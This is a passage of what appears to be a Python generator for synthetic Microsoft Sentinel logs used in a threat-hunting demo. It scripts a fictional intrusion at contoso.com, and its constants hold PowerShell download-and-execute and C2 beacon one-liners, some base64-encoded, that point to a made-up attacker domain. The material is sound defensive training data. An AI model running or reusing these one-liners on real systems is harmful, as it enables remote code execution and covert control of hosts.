#!/usr/bin/env python3
"""Generate huntbook's demo data set: demo_data/demo.la.json.gz.

One Microsoft Log Analytics query API response (``{"tables":[...]}``) holding ten Sentinel tables: three weeks of
benign activity in a small company (contoso.com) with one intrusion woven through it -- a password spray that
compromises mike.jones, mailbox forwarding and Azure abuse from the attacker's IP, then PowerShell on WKS-FIN-07
and a C2 channel that beacons until the end of the data. See demo_data/README.md for the story.

Standard library only and deterministic: one ``random.Random(20240115)`` drives everything, the wall clock is
never read, and the gzip header carries mtime 0, so the output bytes are the same on every run.

    python3 demo_data/generate.py
"""

import base64
import json
import os
import random
import struct
import sys
import uuid
import zlib
from datetime import datetime, timedelta, timezone

# ---------------------------------------------------------------------------------------------------------------
# Fixed parameters and the attack story
# ---------------------------------------------------------------------------------------------------------------

SEED = 20240115
END = datetime(2024, 1, 15, 0, 0, 0, tzinfo=timezone.utc)   # newest TimeGenerated over all tables is exactly this
DAYS = 21                                                   # everything lies in the 21 days before END
OUT_PATH = os.path.join(os.path.dirname(os.path.abspath(__file__)), "demo.la.json.gz")
MAX_GZ_BYTES = 1_500_000

WORKSPACE_ID = "8c1f2a9e-3d4b-4c6e-9f70-5a2b1c3d4e5f"      # the TenantId column (Log Analytics workspace id)
AAD_TENANT_ID = "4b2462a4-bbee-495a-a0e1-f23ae524cc9c"     # the Azure AD tenant of contoso.com
SUBSCRIPTION_ID = "9f3a1c2e-5b7d-4e8f-a1b2-c3d4e5f6a7b8"   # the "Contoso-Prod" Azure subscription
DOMAIN = "contoso.com"
NETBIOS = "CONTOSO"
DOMAIN_SID = "S-1-5-21-1004336348-1177238915-682003330"

# The attacker -------------------------------------------------------------------------------------------------
SPRAY_IPS = {   # ip -> (country, city, state, lat, lon, asn)
    "185.220.101.45": ("DE", "Berlin", "Berlin", 52.52, 13.40, "60729"),
    "45.153.160.2": ("NL", "Amsterdam", "Noord-Holland", 52.37, 4.89, "211252"),
    "193.142.146.213": ("RU", "Moscow", "Moscow", 55.75, 37.62, "208091"),
}
ATTACKER_IP = "185.220.101.45"             # the spray IP that succeeded; all later cloud access comes from it
VICTIM_UPN = "mike.jones@contoso.com"
VICTIM_SAM = "mjones"
SPRAY_TARGETS = [                          # the 10 accounts sprayed (first-name.last-name)
    "mike.jones", "anna.schmidt", "emily.watson", "james.miller", "laura.garcia",
    "henry.clark", "amelia.adams", "jessica.lee", "daniel.wilson", "olivia.taylor",
]
FORWARD_TO = "mjones.backup@protonmail.com"
INBOX_RULE_NAME = "."
ROGUE_VM = "vm-sync-01"
ROGUE_RG = "rg-finance-prod"
OWNER_ROLE_ID = "8e3af657-a8ff-443c-a75c-2fe8c4bcb635"   # built-in "Owner" role definition
VICTIM_HOST = "WKS-FIN-07.contoso.com"
VICTIM_HOST_IP = "10.0.2.17"
VPN_IP = "10.0.250.14"                     # the attacker's corporate-VPN address used to RDP into WKS-FIN-07
ATTACKER_WORKSTATION = "DESKTOP-8QK2L1M"   # the attacker's own machine name, seen in the 4624 RDP logon
C2_DOMAIN = "cdn-updates.northwind-sync.xyz"
C2_IP = "203.0.113.66"
STAGE2_URL = "http://cdn-updates.northwind-sync.xyz/stage2.ps1"
TOUR_TI_URL = "http://85.214.149.236:443/sugarcrm/themes/default/images/"   # the Tour's TI lookup example
BEACON_URL = "https://cdn-updates.northwind-sync.xyz/api/beacon"
BEACON_INTERVAL_S = 600                    # ~10 minutes, +-10% jitter
STAGE2_SCRIPT = "IEX (New-Object Net.WebClient).DownloadString('http://cdn-updates.northwind-sync.xyz/stage2.ps1')"
BEACON_SCRIPT = ("$w=New-Object Net.WebClient;$w.Headers.Add('User-Agent','Mozilla/5.0');"
                 "while($true){try{IEX $w.DownloadString('https://cdn-updates.northwind-sync.xyz/api/beacon')}"
                 "catch{};Start-Sleep -s 600}")
SSH_BRUTE_IP = "45.153.160.2"              # also brute-forces sshd on lnx-web-01 just before the spray


def b64_utf16(text):
    """What PowerShell's -EncodedCommand takes: base64 of the UTF-16LE text."""
    return base64.b64encode(text.encode("utf-16-le")).decode("ascii")


def b64_utf8(text):
    return base64.b64encode(text.encode("utf-8")).decode("ascii")


ENCODED_CMDLINE = "powershell.exe -nop -w hidden -EncodedCommand " + b64_utf16(STAGE2_SCRIPT)
PLAIN_B64_CMDLINE = ('powershell.exe -nop -w hidden -c "IEX([Text.Encoding]::UTF8.GetString('
                     "[Convert]::FromBase64String('" + b64_utf8(BEACON_SCRIPT) + "')))\"")

TPS = 10_000_000                           # datetimes are integer 100 ns ticks since the Unix epoch
EPOCH = datetime(1970, 1, 1, tzinfo=timezone.utc)
MINUTE, HOUR, DAY = 60 * TPS, 3600 * TPS, 86400 * TPS
END_T = (END - EPOCH) // timedelta(microseconds=1) * 10
START_T = END_T - DAYS * DAY

RNG = random.Random(SEED)


def at(day, hms, frac=True):
    """Story time: END + `day` days + "HH:MM:SS" (day is negative), with a random sub-second part."""
    h, m, s = (int(x) for x in hms.split(":"))
    t = END_T + day * DAY + (h * 3600 + m * 60 + s) * TPS
    return t + (RNG.randrange(TPS) if frac else 0)


# Story timeline (all relative to END = 2024-01-15T00:00:00Z) --------------------------------------------------
SSH_BRUTE_START = at(-4, "23:12:05")       # 2024-01-11T23:12:05Z, sshd brute force from 45.153.160.2
SPRAY_START = at(-3, "00:04:13")           # 2024-01-12T00:04:13Z, first spray failure
SPRAY_ROUND1_END = at(-3, "00:19:00", False)
SPRAY_ROUND2_START = at(-3, "00:21:00", False)
SPRAY_LAST = at(-3, "00:44:02")            # 2024-01-12T00:44:02Z, last spray failure
SPRAY_SUCCESS = at(-3, "00:31:47")         # mike.jones succeeds from 185.220.101.45
OWA_SIGNIN = at(-3, "00:38:05")            # Office 365 Exchange Online sign-in from the attacker IP
INBOX_RULE = at(-3, "00:41:30")            # New-InboxRule forwarding to protonmail
INBOX_ALERT = at(-3, "00:56:33")
PORTAL_SIGNIN = at(-3, "00:52:18")         # Azure Portal sign-in from the attacker IP
ROLE_ASSIGNMENT = at(-3, "00:58:02")       # Owner role assignment on the subscription
VM_CREATE = at(-3, "01:03:40")             # vm-sync-01 created in rg-finance-prod
SPRAY_ALERT = at(-3, "01:05:12")
FILE_DOWNLOADS = at(-3, "01:17:26")        # payroll files downloaded from the Finance site
RDP_LOGON = at(-2, "00:07:12")             # 4624 LogonType 10 on WKS-FIN-07 from the VPN address
ENCODED_PS = at(-2, "00:09:31")            # 4688 powershell -EncodedCommand (stage 2 download)
STAGE2_FETCH = at(-2, "00:09:33")
PS_ALERT = at(-2, "00:10:02")
WHOAMI = at(-2, "00:11:02")                # cmd.exe /c whoami /all
NET_GROUP = at(-2, "00:12:40")             # net group "Domain Admins" /domain
PLAIN_B64_PS = at(-2, "00:14:05")          # powershell with UTF-8 base64 (the beacon loop)
FIRST_BEACON = at(-2, "00:14:09")
C2_ALERT = at(-2, "01:05:44")

# ---------------------------------------------------------------------------------------------------------------
# The organisation
# ---------------------------------------------------------------------------------------------------------------

# first, last, department, office country, Windows admin?, OS of their laptop
PEOPLE = [
    ("Mike", "Jones", "Finance", "US", False, "Windows 10"),
    ("Anna", "Schmidt", "Finance", "GB", False, "Windows 10"),
    ("David", "Chen", "Finance", "US", False, "Windows 10"),
    ("Emily", "Watson", "HR", "US", False, "Windows 10"),
    ("James", "Miller", "IT", "US", True, "Windows 10"),
    ("Laura", "Garcia", "Sales", "US", False, "Windows 10"),
    ("Robert", "Brown", "Finance", "US", False, "Windows 10"),
    ("Olivia", "Taylor", "Marketing", "US", False, "MacOs"),
    ("Daniel", "Wilson", "IT", "US", True, "Windows 10"),
    ("Sophie", "Martin", "HR", "GB", False, "Windows 10"),
    ("Thomas", "Anderson", "Engineering", "US", False, "Windows 10"),
    ("Jessica", "Lee", "Legal", "GB", False, "Windows 10"),
    ("William", "Harris", "Sales", "GB", False, "Windows 10"),
    ("Grace", "Thompson", "Engineering", "US", False, "MacOs"),
    ("Henry", "Clark", "Executive", "US", False, "Windows 10"),
    ("Chloe", "Lewis", "Marketing", "GB", False, "MacOs"),
    ("Samuel", "Walker", "IT", "US", True, "Windows 10"),
    ("Hannah", "Young", "Finance", "US", False, "Windows 10"),
    ("Lucas", "King", "Engineering", "US", False, "Windows 10"),
    ("Isabella", "Wright", "Sales", "US", False, "Windows 10"),
    ("Benjamin", "Scott", "Engineering", "GB", False, "Windows 10"),
    ("Mia", "Green", "HR", "US", False, "Windows 10"),
    ("Ethan", "Baker", "Legal", "GB", False, "Windows 10"),
    ("Amelia", "Adams", "Executive", "US", False, "Windows 10"),
    ("Noah", "Nelson", "Engineering", "US", False, "Windows 10"),
]
DEPT_SUBNET = {"Finance": 2, "HR": 3, "IT": 4, "Engineering": 5, "Sales": 6, "Executive": 7, "Marketing": 8,
               "Legal": 9}
LONDON_SUBNET = 20

CITIES = {   # name -> (state, country, lat, lon)
    "Seattle": ("Washington", "US", 47.6062, -122.3321), "Redmond": ("Washington", "US", 47.674, -122.1215),
    "Bellevue": ("Washington", "US", 47.6101, -122.2015), "Kirkland": ("Washington", "US", 47.6769, -122.206),
    "Tacoma": ("Washington", "US", 47.2529, -122.4443), "Portland": ("Oregon", "US", 45.5152, -122.6784),
    "Austin": ("Texas", "US", 30.2672, -97.7431), "London": ("England", "GB", 51.5072, -0.1276),
    "Reading": ("England", "GB", 51.4543, -0.9781), "Guildford": ("England", "GB", 51.2362, -0.5704),
    "Manchester": ("England", "GB", 53.4808, -2.2426), "Toronto": ("Ontario", "CA", 43.6532, -79.3832),
}
OFFICE = {"US": ("64.124.38.10", "Seattle", "7018"), "GB": ("81.2.69.142", "London", "20712")}
MOBILE_PREFIX = {"US": (172, 58), "GB": (31, 94)}
HOME_PREFIXES = {"US": [(73, "7922"), (24, "7922"), (98, "7922"), (71, "701"), (76, "7922"), (67, "20115")],
                 "GB": [(86, "2856"), (82, "5089"), (92, "5607"), (90, "2856")]}
HOME_CITIES = {"US": ["Seattle", "Seattle", "Redmond", "Bellevue", "Kirkland", "Tacoma", "Portland", "Austin"],
               "GB": ["London", "London", "Reading", "Guildford", "Manchester"]}
TRAVELLER = "laura.garcia"                 # benign: on a trip to Toronto for two days (a routine alert)
TRAVEL_IP = "142.114.83.20"
TRAVEL_DAYS = (-6, -5)                     # Tuesday 9 and Wednesday 10 January

PUBLIC_WEB_IP = "64.124.38.20"             # NAT address of SRV-WEB01 / lnx-web-01
PUBLIC_SSH_IP = "64.124.38.21"

# name, ip, os name, os major.minor, kind (workstation/server/linux), owner's first.last
COMPUTERS = [
    ("SRV-DC01.contoso.com", "10.0.0.10", "Windows Server 2019 Datacenter", ("10", "0"), "server", None),
    ("SRV-FS01.contoso.com", "10.0.0.15", "Windows Server 2019 Standard", ("10", "0"), "server", None),
    ("SRV-WEB01.contoso.com", "10.0.1.20", "Windows Server 2022 Datacenter", ("10", "0"), "server", None),
    ("WKS-FIN-07.contoso.com", "10.0.2.17", "Windows 10 Enterprise", ("10", "0"), "workstation", "mike.jones"),
    ("WKS-FIN-03.contoso.com", "10.0.2.11", "Windows 10 Enterprise", ("10", "0"), "workstation", "robert.brown"),
    ("WKS-HR-02.contoso.com", "10.0.3.22", "Windows 10 Enterprise", ("10", "0"), "workstation", "emily.watson"),
    ("WKS-IT-01.contoso.com", "10.0.4.10", "Windows 10 Enterprise", ("10", "0"), "workstation", "james.miller"),
    ("WKS-ENG-12.contoso.com", "10.0.5.32", "Windows 10 Enterprise", ("10", "0"), "workstation",
     "thomas.anderson"),
    ("WKS-SAL-05.contoso.com", "10.0.6.15", "Windows 10 Enterprise", ("10", "0"), "workstation", "laura.garcia"),
    ("WKS-EXE-01.contoso.com", "10.0.7.11", "Windows 10 Enterprise", ("10", "0"), "workstation", "henry.clark"),
    ("lnx-web-01", "10.0.1.30", "Ubuntu", ("22", "04"), "linux", None),
    ("lnx-db-01", "10.0.1.40", "Ubuntu", ("22", "04"), "linux", None),
]
WINDOWS = [c for c in COMPUTERS if c[4] != "linux"]
WORKSTATIONS = [c for c in COMPUTERS if c[4] == "workstation"]
SERVERS = [c for c in COMPUTERS if c[4] == "server"]
HOST_IP = {c[0]: c[1] for c in COMPUTERS}
DC = "SRV-DC01.contoso.com"
FS = "SRV-FS01.contoso.com"
WEB = "SRV-WEB01.contoso.com"

# Well-known first-party application ids
APPS = {
    "Azure Portal": ("c44b4083-3bb0-49c1-b47d-974e53cbdf3c", "Windows Azure Service Management API"),
    "Office 365 Exchange Online": ("00000002-0000-0ff1-ce00-000000000000", "Office 365 Exchange Online"),
    "Microsoft Teams": ("1fec8e78-bce4-4aaf-ab1b-5451cc387264", "Microsoft Teams Services"),
    "SharePoint Online": ("00000003-0000-0ff1-ce00-000000000000", "Office 365 SharePoint Online"),
    "Azure CLI": ("04b07795-8ddb-461a-bbee-02f9e1bf7b46", "Windows Azure Service Management API"),
    "Microsoft Office": ("d3590ed6-52b3-4102-aeff-aad2292ab01c", "Microsoft Graph"),
    "OfficeHome": ("4765445b-32c6-49b0-83e6-1d93765276ca", "Office 365 SharePoint Online"),
    "Windows Sign In": ("38aa3b87-a06d-4817-b275-7a316988d93b", "Windows Azure Active Directory"),
    "Microsoft Authentication Broker": ("29d9ed98-a469-4536-ade2-f981bc1d605e", "Microsoft Graph"),
    "Azure Active Directory PowerShell": ("1b730954-1685-4b74-9bfd-dac224a7b894", "Windows Azure Active Directory"),
}

# ---------------------------------------------------------------------------------------------------------------
# Table schemas (Name:type, from the Sentinel table reference; columns starting with "_" left out). Each table's
# columns are TenantId, TimeGenerated, then the rest in this order.
# ---------------------------------------------------------------------------------------------------------------

SCHEMAS = {
    "SigninLogs": """
        AADTenantId:string AlternateSignInName:string AppDisplayName:string AppId:string
        AppliedConditionalAccessPolicies:string AppliedEventListeners:dynamic
        AuthenticationContextClassReferences:string AuthenticationDetails:string AuthenticationMethodsUsed:string
        AuthenticationProcessingDetails:string AuthenticationProtocol:string AuthenticationRequirement:string
        AuthenticationRequirementPolicies:string AutonomousSystemNumber:string Category:string ClientAppUsed:string
        ConditionalAccessPolicies:dynamic ConditionalAccessStatus:string CorrelationId:string CreatedDateTime:datetime
        CrossTenantAccessType:string DeviceDetail:dynamic DurationMs:long FlaggedForReview:bool HomeTenantId:string
        Id:string Identity:string IPAddress:string IPAddressFromResourceProvider:string IsInteractive:bool
        IsRisky:bool Level:string Location:string LocationDetails:dynamic MfaDetail:dynamic
        NetworkLocationDetails:string OperationName:string OperationVersion:string OriginalRequestId:string
        ProcessingTimeInMilliseconds:string Resource:string ResourceDisplayName:string ResourceGroup:string
        ResourceId:string ResourceIdentity:string ResourceProvider:string ResourceServicePrincipalId:string
        ResourceTenantId:string ResultDescription:string ResultSignature:string ResultType:string RiskDetail:string
        RiskEventTypes:string RiskEventTypes_V2:string RiskLevel:string RiskLevelAggregated:string
        RiskLevelDuringSignIn:string RiskState:string ServicePrincipalId:string ServicePrincipalName:string
        SessionLifetimePolicies:string SignInIdentifier:string SignInIdentifierType:string SourceSystem:string
        Status:dynamic TimeGenerated:datetime TokenIssuerName:string TokenIssuerType:string Type:string
        UniqueTokenIdentifier:string UserAgent:string UserDisplayName:string UserId:string UserPrincipalName:string
        UserType:string
    """,
    "SecurityAlert": """
        AlertLink:string AlertName:string AlertSeverity:string AlertType:string CompromisedEntity:string
        ConfidenceLevel:string ConfidenceScore:real Description:string DisplayName:string EndTime:datetime
        Entities:string ExtendedLinks:string ExtendedProperties:string IsIncident:bool ProcessingEndTime:datetime
        ProductComponentName:string ProductName:string ProviderName:string RemediationSteps:string ResourceId:string
        SourceComputerId:string StartTime:datetime Status:string SubTechniques:string SystemAlertId:string
        Tactics:string Techniques:string TimeGenerated:datetime Type:string VendorName:string VendorOriginalId:string
        WorkspaceResourceGroup:string WorkspaceSubscriptionId:string
    """,
    "SecurityEvent": """
        AccessMask:string Account:string AccountDomain:string AccountExpires:string AccountName:string
        AccountSessionIdentifier:string AccountType:string Activity:string AdditionalInfo:string
        AdditionalInfo2:string AllowedToDelegateTo:string Attributes:string AuditPolicyChanges:string
        AuditsDiscarded:int AuthenticationLevel:int AuthenticationPackageName:string AuthenticationProvider:string
        AuthenticationServer:string AuthenticationService:int AuthenticationType:string AzureDeploymentID:string
        CACertificateHash:string CalledStationID:string CallerProcessId:string CallerProcessName:string
        CallingStationID:string CAPublicKeyHash:string CategoryId:string CertificateDatabaseHash:string Channel:string
        ClassId:string ClassName:string ClientAddress:string ClientIPAddress:string ClientName:string
        CommandLine:string CompatibleIds:string Computer:string Correlation:string DCDNSName:string
        DeviceDescription:string DeviceId:string DisplayName:string Disposition:string DomainBehaviorVersion:string
        DomainName:string DomainPolicyChanged:string DomainSid:string EAPType:string ElevatedToken:string
        ErrorCode:int EventData:string EventID:int EventLevelName:string EventRecordId:string EventSourceName:string
        ExtendedQuarantineState:string FailureReason:string FileHash:string FilePath:string FilePathNoUser:string
        Filter:string ForceLogoff:string Fqbn:string FullyQualifiedSubjectMachineName:string
        FullyQualifiedSubjectUserName:string GroupMembership:string HandleId:string HardwareIds:string
        HomeDirectory:string HomePath:string InterfaceUuid:string IpAddress:string IpPort:string KeyLength:int
        Keywords:string Level:string LmPackageName:string LocationInformation:string LockoutDuration:string
        LockoutObservationWindow:string LockoutThreshold:string LoggingResult:string LogonGuid:string
        LogonHours:string LogonID:string LogonProcessName:string LogonType:int LogonTypeName:string
        MachineAccountQuota:string MachineInventory:string MachineLogon:string ManagementGroupName:string
        MandatoryLabel:string MaxPasswordAge:string MemberName:string MemberSid:string MinPasswordAge:string
        MinPasswordLength:string MixedDomainMode:string NASIdentifier:string NASIPv4Address:string
        NASIPv6Address:string NASPort:string NASPortType:string NetworkPolicyName:string NewDate:string
        NewMaxUsers:string NewProcessId:string NewProcessName:string NewRemark:string NewShareFlags:string
        NewTime:string NewUacValue:string NewValue:string NewValueType:string ObjectName:string ObjectServer:string
        ObjectType:string ObjectValueName:string OemInformation:string OldMaxUsers:string OldRemark:string
        OldShareFlags:string OldUacValue:string OldValue:string OldValueType:string Opcode:string OperationType:string
        PackageName:string ParentProcessName:string PasswordHistoryLength:string PasswordLastSet:string
        PasswordProperties:string PreviousDate:string PreviousTime:string PrimaryGroupId:string
        PrivateKeyUsageCount:string PrivilegeList:string Process:string ProcessId:string ProcessName:string
        ProfilePath:string Properties:string ProtocolSequence:string ProxyPolicyName:string QuarantineHelpURL:string
        QuarantineSessionID:string QuarantineSessionIdentifier:string QuarantineState:string
        QuarantineSystemHealthResult:string RelativeTargetName:string RemoteIpAddress:string RemotePort:string
        Requester:string RequestId:string RestrictedAdminMode:string RowsDeleted:string SamAccountName:string
        ScriptPath:string SecurityDescriptor:string ServiceAccount:string ServiceFileName:string ServiceName:string
        ServiceStartType:int ServiceType:string SessionName:string ShareLocalPath:string ShareName:string
        SidHistory:string SourceComputerId:string SourceSystem:string Status:string StorageAccount:string
        SubcategoryGuid:string SubcategoryId:string Subject:string SubjectAccount:string SubjectDomainName:string
        SubjectKeyIdentifier:string SubjectLogonId:string SubjectMachineName:string SubjectMachineSID:string
        SubjectUserName:string SubjectUserSid:string SubStatus:string SystemProcessId:int SystemThreadId:int
        SystemUserId:string TableId:string TargetAccount:string TargetDomainName:string TargetInfo:string
        TargetLinkedLogonId:string TargetLogonGuid:string TargetLogonId:string TargetOutboundDomainName:string
        TargetOutboundUserName:string TargetServerName:string TargetSid:string TargetUser:string TargetUserName:string
        TargetUserSid:string Task:int TemplateContent:string TemplateDSObjectFQDN:string TemplateInternalName:string
        TemplateOID:string TemplateSchemaVersion:string TemplateVersion:string TenantId:string TimeGenerated:datetime
        TokenElevationType:string TransmittedServices:string Type:string UserAccountControl:string
        UserParameters:string UserPrincipalName:string UserWorkstations:string VendorIds:string Version:int
        VirtualAccount:string Workstation:string WorkstationName:string
    """,
    "Syslog": """
        CollectorHostName:string Computer:string EventTime:datetime Facility:string HostIP:string HostName:string
        ProcessID:int ProcessName:string SeverityLevel:string SourceSystem:string SyslogMessage:string
        TimeGenerated:datetime Type:string
    """,
    "AzureActivity": """
        ActivityStatus:string ActivityStatusValue:string ActivitySubstatus:string ActivitySubstatusValue:string
        Authorization:string Authorization_d:dynamic Caller:string CallerIpAddress:string Category:string
        CategoryValue:string Claims:string Claims_d:dynamic CorrelationId:string EventDataId:string
        EventSubmissionTimestamp:datetime Hierarchy:string HTTPRequest:string Level:string OperationId:string
        OperationName:string OperationNameValue:string Properties:string Properties_d:dynamic Resource:string
        ResourceGroup:string ResourceId:string ResourceProvider:string ResourceProviderValue:string
        SourceSystem:string SubscriptionId:string TenantId:string TimeGenerated:datetime Type:string
    """,
    "OfficeActivity": """
        AADGroupId:string AADTarget:string Activity:string Actor:string ActorContextId:string ActorIpAddress:string
        AddOnGuid:string AddonName:string AddOnType:string AffectedItems:string AppDistributionMode:string
        AppId:string Application:string ApplicationId:string AppPoolName:string AzureActiveDirectory_EventType:string
        AzureADAppId:string ChannelGuid:string ChannelName:string ChannelType:string ChatName:string
        ChatThreadId:string Client:string Client_IPAddress:string ClientAppId:string ClientInfoString:string
        ClientIP:string ClientMachineName:string ClientProcessName:string ClientVersion:string
        CommunicationType:string CrossMailboxOperations:bool CustomEvent:string DataCenterSecurityEventType:int
        DestFolder:string DestinationFileExtension:string DestinationFileName:string DestinationRelativeUrl:string
        DestMailboxId:string DestMailboxOwnerMasterAccountSid:string DestMailboxOwnerSid:string
        DestMailboxOwnerUPN:string EffectiveOrganization:string ElevationApprovedTime:datetime
        ElevationApprover:string ElevationDuration:int ElevationRequestId:string ElevationRole:string
        ElevationTime:datetime Event_Data:string EventSource:string ExtendedProperties:string ExternalAccess:string
        ExtraProperties:dynamic Folder:string Folders:string GenericInfo:string InternalLogonType:int
        InterSystemsId:string IntraSystemId:string IsManagedDevice:bool Item:string ItemName:string ItemType:string
        LoginStatus:int Logon_Type:string LogonUserDisplayName:string LogonUserSid:string MachineDomainInfo:string
        MachineId:string MailboxGuid:string MailboxOwnerMasterAccountSid:string MailboxOwnerSid:string
        MailboxOwnerUPN:string Members:dynamic MessageId:string ModifiedObjectResolvedName:string
        ModifiedProperties:string Name:string NewValue:string OfficeId:string OfficeObjectId:string
        OfficeTenantId:string OfficeWorkload:string OldValue:string Operation:string OperationProperties:dynamic
        OperationScope:string OrganizationId:string OrganizationName:string OriginatingServer:string Parameters:string
        RecordType:string ResultReasonType:string ResultStatus:string SendAsUserMailboxGuid:string
        SendAsUserSmtp:string SendonBehalfOfUserMailboxGuid:string SendOnBehalfOfUserSmtp:string SharingType:string
        Site_:string Site_Url:string Source_Name:string SourceFileExtension:string SourceFileName:string
        SourceRecordId:string SourceRelativeUrl:string SourceSystem:string SRPolicyId:string SRPolicyName:string
        SRRuleMatchDetails:dynamic Start_Time:datetime SupportTicketId:string TabType:string TargetContextId:string
        TargetUserId:string TargetUserOrGroupName:string TargetUserOrGroupType:string TeamGuid:string TeamName:string
        TenantId:string TimeGenerated:datetime Type:string UserAgent:string UserDomain:string UserId:string
        UserKey:string UserSharedWith:string UserType:string
    """,
    "CommonSecurityLog": """
        Activity:string AdditionalExtensions:string ApplicationProtocol:string CollectorHostName:string
        CommunicationDirection:string Computer:string DestinationDnsDomain:string DestinationHostName:string
        DestinationIP:string DestinationMACAddress:string DestinationNTDomain:string DestinationPort:int
        DestinationProcessId:int DestinationProcessName:string DestinationServiceName:string
        DestinationTranslatedAddress:string DestinationTranslatedPort:int DestinationUserID:string
        DestinationUserName:string DestinationUserPrivileges:string DeviceAction:string DeviceAddress:string
        DeviceCustomDate1:string DeviceCustomDate1Label:string DeviceCustomDate2:string DeviceCustomDate2Label:string
        DeviceCustomFloatingPoint1:real DeviceCustomFloatingPoint1Label:string DeviceCustomFloatingPoint2:real
        DeviceCustomFloatingPoint2Label:string DeviceCustomFloatingPoint3:real DeviceCustomFloatingPoint3Label:string
        DeviceCustomFloatingPoint4:real DeviceCustomFloatingPoint4Label:string DeviceCustomIPv6Address1:string
        DeviceCustomIPv6Address1Label:string DeviceCustomIPv6Address2:string DeviceCustomIPv6Address2Label:string
        DeviceCustomIPv6Address3:string DeviceCustomIPv6Address3Label:string DeviceCustomIPv6Address4:string
        DeviceCustomIPv6Address4Label:string DeviceCustomNumber1:int DeviceCustomNumber1Label:string
        DeviceCustomNumber2:int DeviceCustomNumber2Label:string DeviceCustomNumber3:int
        DeviceCustomNumber3Label:string DeviceCustomString1:string DeviceCustomString1Label:string
        DeviceCustomString2:string DeviceCustomString2Label:string DeviceCustomString3:string
        DeviceCustomString3Label:string DeviceCustomString4:string DeviceCustomString4Label:string
        DeviceCustomString5:string DeviceCustomString5Label:string DeviceCustomString6:string
        DeviceCustomString6Label:string DeviceDnsDomain:string DeviceEventCategory:string DeviceEventClassID:string
        DeviceExternalID:string DeviceFacility:string DeviceInboundInterface:string DeviceMacAddress:string
        DeviceName:string DeviceNtDomain:string DeviceOutboundInterface:string DevicePayloadId:string
        DeviceProduct:string DeviceTimeZone:string DeviceTranslatedAddress:string DeviceVendor:string
        DeviceVersion:string EndTime:datetime EventCount:int EventOutcome:string EventType:int ExternalID:int
        ExtID:string FieldDeviceCustomNumber1:long FieldDeviceCustomNumber2:long FieldDeviceCustomNumber3:long
        FileCreateTime:string FileHash:string FileID:string FileModificationTime:string FileName:string
        FilePath:string FilePermission:string FileSize:int FileType:string FlexDate1:string FlexDate1Label:string
        FlexNumber1:int FlexNumber1Label:string FlexNumber2:int FlexNumber2Label:string FlexString1:string
        FlexString1Label:string FlexString2:string FlexString2Label:string IndicatorThreatType:string
        LogSeverity:string MaliciousIP:string MaliciousIPCountry:string MaliciousIPLatitude:real
        MaliciousIPLongitude:real Message:string OldFileCreateTime:string OldFileHash:string OldFileID:string
        OldFileModificationTime:string OldFileName:string OldFilePath:string OldFilePermission:string OldFileSize:int
        OldFileType:string OriginalLogSeverity:string ProcessID:int ProcessName:string Protocol:string Reason:string
        ReceiptTime:string ReceivedBytes:long RemoteIP:string RemotePort:string ReportReferenceLink:string
        RequestClientApplication:string RequestContext:string RequestCookies:string RequestMethod:string
        RequestURL:string SentBytes:long SimplifiedDeviceAction:string SourceDnsDomain:string SourceHostName:string
        SourceIP:string SourceMACAddress:string SourceNTDomain:string SourcePort:int SourceProcessId:int
        SourceProcessName:string SourceServiceName:string SourceSystem:string SourceTranslatedAddress:string
        SourceTranslatedPort:int SourceUserID:string SourceUserName:string SourceUserPrivileges:string
        StartTime:datetime TenantId:string ThreatConfidence:string ThreatDescription:string ThreatSeverity:int
        TimeGenerated:datetime Type:string
    """,
    "Heartbeat": """
        Category:string Computer:string ComputerEnvironment:string ComputerIP:string ComputerPrivateIPs:dynamic
        IsGatewayInstalled:bool ManagementGroupName:string OSMajorVersion:string OSMinorVersion:string OSName:string
        OSType:string RemoteIPCountry:string RemoteIPLatitude:real RemoteIPLongitude:real Resource:string
        ResourceGroup:string ResourceId:string ResourceProvider:string ResourceType:string SCAgentChannel:string
        Solutions:string SourceSystem:string SubscriptionId:string TimeGenerated:datetime Type:string Version:string
        VMUUID:string
    """,
    "DnsEvents": """
        ClientIP:string Computer:string Confidence:string Description:string EventId:int IndicatorThreatType:string
        IPAddresses:string MaliciousIP:string Message:string Name:string QueryType:string RemoteIPCountry:string
        RemoteIPLatitude:real RemoteIPLongitude:real Result:string ResultCode:int Severity:int SourceSystem:string
        SubType:string TaskCategory:string TenantId:string TimeGenerated:datetime Type:string
    """,
    "ThreatIntelligenceIndicator": """
        Action:string Active:bool ActivityGroupNames:string AdditionalInformation:string ApplicationId:string
        AzureTenantId:string ConfidenceScore:real Description:string DiamondModel:string DomainName:string
        EmailEncoding:string EmailLanguage:string EmailRecipient:string EmailSenderAddress:string
        EmailSenderName:string EmailSourceDomain:string EmailSourceIpAddress:string EmailSubject:string
        EmailXMailer:string ExpirationDateTime:datetime ExternalIndicatorId:string FileCompileDateTime:datetime
        FileCreatedDateTime:datetime FileHashType:string FileHashValue:string FileMutexName:string FileName:string
        FilePacker:string FilePath:string FileSize:int FileType:string IndicatorId:string IndicatorProvider:string
        KillChainActions:bool KillChainC2:bool KillChainDelivery:bool KillChainExploitation:bool
        KillChainReconnaissance:bool KillChainWeaponization:bool KnownFalsePositives:string MalwareNames:string
        NetworkCidrBlock:string NetworkDestinationAsn:int NetworkDestinationCidrBlock:string
        NetworkDestinationIP:string NetworkDestinationPort:int NetworkIP:string NetworkPort:int NetworkProtocol:int
        NetworkSourceAsn:int NetworkSourceCidrBlock:string NetworkSourceIP:string NetworkSourcePort:int
        PassiveOnly:bool SourceSystem:string Tags:string TenantId:string ThreatSeverity:int ThreatType:string
        TimeGenerated:datetime TrafficLightProtocolLevel:string Type:string Url:string UserAgent:string
    """,
}

TABLE_ORDER = ["SigninLogs", "SecurityAlert", "SecurityEvent", "OfficeActivity", "Syslog", "AzureActivity",
               "CommonSecurityLog", "DnsEvents", "Heartbeat", "ThreatIntelligenceIndicator"]


def columns_of(table):
    cols = [tuple(c.split(":")) for c in SCHEMAS[table].split()]
    cols = [(n, t) for n, t in cols
            if (not n.startswith("_") or n.startswith("_DT")) and n not in ("TenantId", "TimeGenerated")]
    return [("TenantId", "string"), ("TimeGenerated", "datetime")] + cols


# ---------------------------------------------------------------------------------------------------------------
# Small helpers
# ---------------------------------------------------------------------------------------------------------------

def guid():
    return str(uuid.UUID(int=RNG.getrandbits(128), version=4))


def pick(seq):
    return seq[RNG.randrange(len(seq))]


def wpick(pairs):
    """Weighted choice from [(item, weight), ...]."""
    total = sum(w for _, w in pairs)
    x = RNG.random() * total
    for item, w in pairs:
        x -= w
        if x < 0:
            return item
    return pairs[-1][0]


def dyn(obj):
    """A `dynamic` (or JSON-in-a-string) cell: compact JSON text."""
    return json.dumps(obj, separators=(",", ":"))


def hexid(lo=0x10000, hi=0x3FFFFFF):
